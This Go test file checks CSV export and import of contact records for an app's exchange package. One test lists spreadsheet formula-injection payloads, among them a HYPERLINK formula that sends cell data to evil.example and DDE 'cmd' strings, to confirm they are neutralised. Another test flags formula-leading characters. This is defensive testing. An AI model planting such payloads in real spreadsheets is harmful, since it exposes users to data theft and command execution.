package exchange_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"cortado/app"
	"cortado/app/exchange"
)

func tableOf(people []app.Person, o exchange.WriteOptions) []byte {
	var b bytes.Buffer
	if err := exchange.WriteTable(&b, people, o); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func TestAPersonComesBackFromTheirRow(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		people := drawPeople(t)
		private := rapid.Bool().Draw(t, "private")
		file := tableOf(people, exchange.WriteOptions{Private: private, Seed: "s"})
		b, err := readBytes("x.csv", file, options())
		if err != nil {
			t.Fatalf("%v\n%s", err, file)
		}
		if b.Format != exchange.CSV || len(b.Records) != len(people) || len(b.Skipped)+len(b.Problems) > 0 || b.Values != counted(b) {
			t.Fatalf("%s: %d people of %d, skipped %v, problems %v\n%s", b.Format, len(b.Records), len(people), b.Skipped, b.Problems, file)
		}
		for i, r := range b.Records {
			want := handedOn(people[i], private)
			want.Photo = nil
			alike(t, string(file), r.Person, want, private)
		}
	})
}

// cells takes a table apart as RFC 4180 says, with a reader that is not ours.
func cells(t interface{ Fatalf(string, ...any) }, file []byte, comma rune, lazy bool) [][]string {
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\ufeff"))))
	r.Comma, r.LazyQuotes = comma, lazy
	if lazy {
		r.FieldsPerRecord = -1
	}
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%v\n%q", err, file)
	}
	return rows
}

func TestNoCellOfATableIsAFormula(t *testing.T) {
	check := func(t *rapid.T, rows [][]string, how string) {
		for _, row := range rows {
			for _, c := range row {
				if first := strings.TrimLeft(c, " \t\r\n\""); first != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(first)[0]) {
					t.Fatalf("%s, a cell begins like a formula: %q", how, c)
				}
			}
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		people := drawPeople(t)
		file := tableOf(people, exchange.WriteOptions{Private: true, Seed: "s"})
		if !bytes.HasPrefix(file, []byte("\ufeffGiven name,Family name")) || !bytes.HasSuffix(file, []byte("\r\n")) {
			t.Fatalf("no byte order mark, or no end: %q", file)
		}
		rows := cells(t, file, ',', false)
		if len(rows) != len(people)+1 {
			t.Fatalf("%d rows", len(rows))
		}
		check(t, rows, "read as it is meant")
		check(t, cells(t, file, ';', true), "read with semicolons")
		check(t, cells(t, file, '\t', true), "read with tabs")
		for _, line := range strings.FieldsFunc(string(file), func(r rune) bool { return r == '\r' || r == '\n' }) {
			check(t, [][]string{strings.Split(line, ";")}, "split at every semicolon")
		}
	})
}

func TestKnownFormulasAreTextAndComeBack(t *testing.T) {
	for _, attack := range []string{`=HYPERLINK("https://evil.example?x="&A1,"Error")`, "=cmd|'/c calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "'=1", "''", "'",
		`x";=1+1`, "a;=1", "a\n=1", `";=cmd|'/c calc'!A0;"`, "＝1+1", "it's", "'quoted'", "a\nBEGIN:VCARD\nVERSION:3.0\nEND:VCARD"} {
		p := app.Person{ID: 1, Name: app.Name{Given: "Ana", Family: "Silva"}, Title: attack, Tags: []string{attack}, Notes: attack}
		file := tableOf([]app.Person{p}, exchange.WriteOptions{Private: true})
		b, err := readBytes("x.csv", file, options())
		if err != nil {
			t.Fatal(err)
		}
		got := b.Records[0].Person
		if got.Title != attack || !slices.Equal(got.Tags, []string{attack}) || got.Notes != attack {
			t.Errorf("%q came back as %q, %q, %q", attack, got.Title, got.Tags, got.Notes)
		}
	}
}

func TestALongNoteComesBackFromATable(t *testing.T) {
	p := app.Person{ID: 1, Name: app.Name{Given: "Ana"}, Notes: strings.Repeat("- a line\n\n", 400) + "end"}
	b, err := readBytes("x.csv", tableOf([]app.Person{p, p}, exchange.WriteOptions{Private: true}), options())
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Records) != 2 || b.Records[1].Person.Notes != p.Notes {
		t.Errorf("%d people, %d letters of %d", len(b.Records), len(b.Records[1].Person.Notes), len(p.Notes))
	}
}

func TestMoreAddressesThanColumnsAreKept(t *testing.T) {
	p := app.Person{ID: 1, Name: app.Name{Given: "Ana"}}
	for i := range 130 {
		p.Emails = append(p.Emails, app.Email{Address: fmt.Sprintf("a%d@tern.example", i)})
	}
	file := tableOf([]app.Person{p}, exchange.WriteOptions{Private: true})
	b, err := readBytes("x.csv", file, options())
	if err != nil {
		t.Fatal(err)
	}
	if q := b.Records[0].Person; len(q.Emails) != 100 || len(q.Extra) != 31 || !strings.Contains(fmt.Sprint(q.Extra), "a129@tern.example") {
		t.Errorf("%d addresses, %d beside", len(q.Emails), len(q.Extra))
	}
}

func TestATableEditedInASpreadsheetIsUnderstood(t *testing.T) {
	// The id's column is gone, the marks are semicolons, a column is new: the
	// table is read as any other is.
	edited := "Given name;Family name;Job title;E-mail 1;E-mail 1 label;Phone 1;Link 1;Skills;Tags;Mood\n" +
		"Ana;Silva;Buyer;ana@tern.example;work;+49 170 5550100;https://ana.example;Pricing:4, Tax;a, b;fine\n"
	b, err := readBytes("x.csv", []byte(edited), options())
	if err != nil {
		t.Fatal(err)
	}
	p := b.Records[0].Person
	if p.Name.String() != "Ana Silva" || p.Title != "Buyer" || p.Email() != "ana@tern.example" || len(p.Phones) != 1 ||
		len(p.Links) != 1 || len(p.Skills) != 2 || len(p.Tags) != 2 ||
		!slices.Contains(p.Extra, app.Extra{Name: "Mood", Value: "fine"}) {
		t.Errorf("read %+v", p)
	}
	// Another field that the user gives a column wins over ours.
	o := options()
	o.Mapping = map[string]string{"Job title": "notes", "Tags": "-"}
	whole := tableOf([]app.Person{{ID: 1, Name: app.Name{Given: "Ana"}, Title: "Buyer", Tags: []string{"x"}}}, exchange.WriteOptions{})
	if b, err = readBytes("x.csv", whole, o); err != nil {
		t.Fatal(err)
	}
	if p := b.Records[0].Person; p.Title != "" || p.Notes != "Buyer" || len(p.Tags) != 0 || b.Left != 1 {
		t.Errorf("mapped to %+v", p)
	}
}
